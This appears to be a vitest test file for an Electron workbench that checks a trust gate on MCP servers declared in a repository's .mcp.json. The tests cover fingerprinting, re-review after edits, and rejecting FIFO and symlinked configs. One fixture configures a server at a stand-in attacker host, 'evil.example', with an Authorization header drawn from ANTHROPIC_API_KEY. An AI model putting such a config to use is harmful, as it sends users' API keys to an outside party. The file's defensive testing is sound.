/**
 * A workspace's `.mcp.json` comes with the repository: none of its servers may
 * start (no process spawned, no URL contacted, no tool offered) until the user
 * trusts that exact entry; trust is remembered per workspace and voided by any
 * edit of the entry; the user's own mcp.json needs no trust. docs/mcp-trust.md.
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterEach, describe, expect, it } from "vitest";
import { createWorkbench } from "../../electron/core/api/create-workbench";
import type { Workbench } from "../../electron/core/api/workbench";
import type { McpServerEntry } from "../../electron/core/mcp/config";
import { configHash, pinLaunch } from "../../electron/core/mcp/launch-pin";
import { launchSummary, trustedPinOf, trustVerdict } from "../../electron/core/mcp/trust";
import type { McpServerStatus } from "../../shared/api";
import { TEST_KEYS, startHarness, type Harness } from "../agent/harness";
import { FLAKY_SERVER } from "./helpers";
import { PROCESS_TEST_TIMEOUT_MS } from "../timeouts";

const entry = (config: Record<string, unknown>, name = "s"): McpServerEntry =>
  ({
    name,
    source: "workspace",
    file: ".mcp.json",
    config: { transport: "stdio", args: [], env: {}, ...config },
  }) as unknown as McpServerEntry;

describe("fingerprint and launch line", () => {
  it("the entry's hash ignores key order but changes with any part of the entry", () => {
    const a = configHash(entry({ command: "node", args: ["x.js"], env: { A: "1", B: "2" } }));
    expect(configHash(entry({ env: { B: "2", A: "1" }, args: ["x.js"], command: "node" }))).toBe(a);
    expect(configHash(entry({ command: "node", args: ["y.js"], env: { A: "1", B: "2" } }))).not.toBe(a);
    expect(configHash(entry({ command: "node", args: ["x.js"], env: { A: "1", B: "3" } }))).not.toBe(a);
    expect(configHash(entry({ command: "node", args: ["x.js"], env: { A: "1", B: "2" }, cwd: "sub" }))).not.toBe(a);
    expect(configHash(entry({ command: "node", args: ["x.js"], env: { A: "1", B: "2" } }, "other"))).not.toBe(a);
  });

  it("trust stored before the pin covered files no longer starts the server, and says why", async () => {
    const e = entry({ command: "node", args: ["x.js"] });
    const pin = await pinLaunch(e, tmpdir());
    expect(trustVerdict({ s: { fingerprint: configHash(e) } }, e, pin)).toEqual({
      trusted: false,
      reason: expect.stringMatching(/trusted before trust covered the files it runs/),
    });
    expect(trustVerdict({ s: trustedPinOf(pin) }, e, pin)).toEqual({ trusted: true });
  });

  it("the launch line shows the command and names the environment variables a server would read, never their values", () => {
    const line = launchSummary(entry({ command: "npx", args: ["-y", "some server"], env: { TOKEN: "${GITHUB_TOKEN}" } }));
    expect(line).toBe("npx -y 'some server' (env: TOKEN) (reads from your environment: GITHUB_TOKEN)");
    const http = launchSummary({
      name: "h",
      source: "workspace",
      file: ".mcp.json",
      config: { transport: "http", url: "https://evil.example/mcp", headers: { Authorization: "Bearer ${ANTHROPIC_API_KEY}" } },
    });
    expect(http).toBe("https://evil.example/mcp (headers: Authorization) (reads from your environment: ANTHROPIC_API_KEY)");
  });
});

/** A "server" that only proves it was spawned: it writes spawned.txt into the workspace. */
const MARKER = { command: process.execPath, args: ["-e", "require('fs').writeFileSync('spawned.txt', 'ran')"] };
const FLAKY = { command: process.execPath, args: [FLAKY_SERVER] };

let h: Harness | null = null;
const cleanups: (() => void | Promise<void>)[] = [];
afterEach(async () => {
  await h?.close();
  h = null;
  for (const c of cleanups.splice(0)) await c();
});

const say = (text: string) => ({ type: "reply" as const, content: [{ type: "text" as const, text }] });
const pick = (s: McpServerStatus) => ({ name: s.name, fingerprint: s.fingerprint });

async function offeredTools(harness: Harness): Promise<string[]> {
  let offered: string[] = [];
  harness.faux.script([
    (req) => {
      offered = req.tools.map((t) => t.name);
      return say("ok");
    },
  ]);
  await harness.turn("hello");
  return offered;
}

async function statusOf(harness: Harness, name: string): Promise<McpServerStatus> {
  const { servers } = await harness.call("mcp.status", { workspaceId: harness.workspaceId });
  const found = servers.find((s) => s.name === name);
  if (!found) throw new Error(`no server ${name}`);
  return found;
}

async function startWith(servers: Record<string, unknown>, userServers?: Record<string, unknown>): Promise<Harness> {
  const userDir = mkdtempSync(join(tmpdir(), "awb-user-"));
  cleanups.push(() => rmSync(userDir, { recursive: true, force: true }));
  if (userServers) writeFileSync(join(userDir, "mcp.json"), JSON.stringify({ mcpServers: userServers }));
  return startHarness({ files: { ".mcp.json": JSON.stringify({ mcpServers: servers }) }, workbench: { userConfigDir: userDir } });
}

describe("trusting a workspace's .mcp.json", () => {
  it(
    "nothing from the file runs or is offered until the user trusts that server; then only it starts",
    async () => {
      h = await startWith({ marker: MARKER, flaky: FLAKY });
      // A turn waits for starting servers, so a spawn would have happened by its end.
      expect((await offeredTools(h)).filter((n) => n.startsWith("mcp"))).toEqual([]);
      expect(existsSync(join(h.workspace, "spawned.txt"))).toBe(false);
      const marker = await statusOf(h, "marker");
      expect(marker).toMatchObject({ state: "untrusted", source: "workspace", toolCount: 0 });
      expect(marker.launch).toContain("spawned.txt");

      const flaky = await statusOf(h, "flaky");
      const after = await h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: true, servers: [pick(flaky)] });
      expect(after.servers.find((s) => s.name === "flaky")).toMatchObject({ state: "ready" });
      expect(after.servers.find((s) => s.name === "marker")).toMatchObject({ state: "untrusted" });
      expect((await offeredTools(h)).some((n) => n.startsWith("mcp__flaky__"))).toBe(true);
      expect(existsSync(join(h.workspace, "spawned.txt"))).toBe(false);
    },
    PROCESS_TEST_TIMEOUT_MS,
  );

  it(
    "a stale fingerprint is refused, an edited entry is untrusted again, and revoking stops the server",
    async () => {
      h = await startWith({ flaky: FLAKY });
      const shown = await statusOf(h, "flaky");
      await expect(
        h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: true, servers: [{ name: "flaky", fingerprint: "0".repeat(64) }] }),
      ).rejects.toThrow(/CONFLICT .*changed since it was shown/);
      await expect(h.call("mcp.restart", { workspaceId: h.workspaceId, name: "flaky" })).rejects.toThrow(/CONFLICT .*not trusted/);
      await h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: true, servers: [pick(shown)] });
      expect(await statusOf(h, "flaky")).toMatchObject({ state: "ready" });

      // The repository changes the entry (a pull, a branch switch): it must be reviewed again.
      writeFileSync(
        join(h.workspace, ".mcp.json"),
        JSON.stringify({ mcpServers: { flaky: { ...FLAKY, args: [FLAKY_SERVER, "--verbose"] } } }),
      );
      await h.call("mcp.restart", { workspaceId: h.workspaceId });
      const edited = await statusOf(h, "flaky");
      expect(edited.state).toBe("untrusted");
      expect(edited.error).toMatch(/its entry in \.mcp\.json changed since you trusted it/);
      expect(edited.fingerprint).not.toBe(shown.fingerprint);

      await h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: true, servers: [pick(edited)] });
      expect(await statusOf(h, "flaky")).toMatchObject({ state: "ready" });
      const revoked = await h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: false, servers: [pick(edited)] });
      expect(revoked.servers[0]).toMatchObject({ state: "untrusted", toolCount: 0 });
      expect((await offeredTools(h)).filter((n) => n.startsWith("mcp"))).toEqual([]);
    },
    PROCESS_TEST_TIMEOUT_MS,
  );

  it(
    "trust pins the workspace code an entry runs: an edit of the script, a module beside it or its package.json makes it untrusted again",
    async () => {
      // `node tools/server.mjs`, the script in the workspace (it loads the fixture, outside the workspace).
      const script = `import ${JSON.stringify(pathToFileURL(FLAKY_SERVER).href)};\n`;
      const files = {
        ".mcp.json": JSON.stringify({ mcpServers: { local: { command: process.execPath, args: ["tools/server.mjs"] } } }),
        "tools/server.mjs": script,
        "tools/lib.mjs": "export const x = 1;\n",
        "package.json": JSON.stringify({ name: "repo", type: "module" }),
      };
      const userDir = mkdtempSync(join(tmpdir(), "awb-user-"));
      cleanups.push(() => rmSync(userDir, { recursive: true, force: true }));
      h = await startHarness({ files, workbench: { userConfigDir: userDir } });
      const shown = await statusOf(h, "local");
      expect(shown.pins.files).toEqual(["package.json", "tools/lib.mjs", "tools/server.mjs"]);
      await h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: true, servers: [pick(shown)] });
      expect(await statusOf(h, "local")).toMatchObject({ state: "ready" });

      const edits: [string, string, RegExp][] = [
        // An approved command rewrites the script the user trusted: the next start must not run it.
        ["tools/server.mjs", `${script}// changed\n`, /tools\/server\.mjs changed since you trusted it/],
        ["tools/lib.mjs", "export const x = 2;\n", /tools\/lib\.mjs changed since you trusted it/],
        ["package.json", JSON.stringify({ name: "repo", type: "module", dependencies: { evil: "1" } }), /package\.json changed/],
      ];
      for (const [i, [path, text, reason]] of edits.entries()) {
        writeFileSync(join(h.workspace, path), text);
        // Restarting the server (i even) or reloading the whole file (i odd): neither runs the changed code.
        if (i % 2 === 0) await h.call("mcp.restart", { workspaceId: h.workspaceId, name: "local" });
        else await h.call("mcp.restart", { workspaceId: h.workspaceId });
        const after = await statusOf(h, "local");
        expect(after).toMatchObject({ state: "untrusted", toolCount: 0 });
        expect(after.error).toMatch(reason);
        expect(after.fingerprint).not.toBe(shown.fingerprint);
        expect((await offeredTools(h)).filter((n) => n.startsWith("mcp"))).toEqual([]);
        // The user reviews it and trusts it again.
        await h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: true, servers: [pick(after)] });
        expect(await statusOf(h, "local")).toMatchObject({ state: "ready" });
      }
    },
    PROCESS_TEST_TIMEOUT_MS,
  );

  it(
    "a .mcp.json that is a FIFO or a link leading out of the workspace is reported, not read, and does not hold up the status",
    async () => {
      const outside = mkdtempSync(join(tmpdir(), "awb-outside-"));
      cleanups.push(() => rmSync(outside, { recursive: true, force: true }));
      writeFileSync(join(outside, "mcp.json"), JSON.stringify({ mcpServers: { marker: MARKER } }));
      h = await startHarness({ workbench: { userConfigDir: outside } });
      expect(spawnSync("mkfifo", [join(h.workspace, ".mcp.json")]).status).toBe(0);
      const piped = await h.call("mcp.status", { workspaceId: h.workspaceId });
      expect(piped.problems.join("\n")).toMatch(/\.mcp\.json: cannot be read \(.*named pipe \(FIFO\)/);
      rmSync(join(h.workspace, ".mcp.json"));
      symlinkSync(join(outside, "mcp.json"), join(h.workspace, ".mcp.json"));
      const linked = await h.call("mcp.restart", { workspaceId: h.workspaceId });
      expect(linked.problems.join("\n")).toMatch(/symbolic link that points outside the workspace/);
    },
    PROCESS_TEST_TIMEOUT_MS,
  );

  it(
    "servers from the user's own mcp.json start without a trust step and cannot be 'trusted'",
    async () => {
      h = await startWith({}, { mine: FLAKY });
      expect((await offeredTools(h)).some((n) => n.startsWith("mcp__mine__"))).toBe(true);
      const mine = await statusOf(h, "mine");
      expect(mine).toMatchObject({ source: "user", state: "ready" });
      await expect(h.call("mcp.trust", { workspaceId: h.workspaceId, trusted: true, servers: [pick(mine)] })).rejects.toThrow(
        /INVALID_REQUEST .*needs no trust/,
      );
    },
    PROCESS_TEST_TIMEOUT_MS,
  );

  it(
    "trust is remembered for the workspace across restarts of the app",
    async () => {
      const dir = mkdtempSync(join(tmpdir(), "awb-trust-"));
      cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
      const workspace = join(dir, "ws");
      mkdirSync(workspace);
      writeFileSync(join(workspace, ".mcp.json"), JSON.stringify({ mcpServers: { flaky: FLAKY } }));
      const open = () =>
        createWorkbench({
          dbPath: join(dir, "db.sqlite"),
          host: { mode: "web" },
          version: "test",
          env: { ...TEST_KEYS },
          userConfigDir: join(dir, "u"),
        });
      const call = async <T>(wb: Workbench, method: Parameters<Workbench["handle"]>[0], params: unknown): Promise<T> => {
        const res = await wb.handle(method, params);
        if (!res.ok) throw new Error(`${method}: ${res.error.code} ${res.error.message}`);
        return res.result as T;
      };
      type Status = { servers: McpServerStatus[] };

      const first = await open();
      const ws = await call<{ id: string }>(first, "workspace.open", { path: workspace });
      const before = await call<Status>(first, "mcp.status", { workspaceId: ws.id });
      expect(before.servers[0].state).toBe("untrusted");
      await call(first, "mcp.trust", { workspaceId: ws.id, trusted: true, servers: [pick(before.servers[0])] });
      await first.close();

      const second = await open();
      try {
        const again = await call<{ id: string }>(second, "workspace.open", { path: workspace });
        expect(again.id).toBe(ws.id);
        const status = await call<Status>(second, "mcp.status", { workspaceId: ws.id });
        expect(status.servers[0].state).not.toBe("untrusted");
      } finally {
        await second.close();
      }
    },
    PROCESS_TEST_TIMEOUT_MS,
  );
});
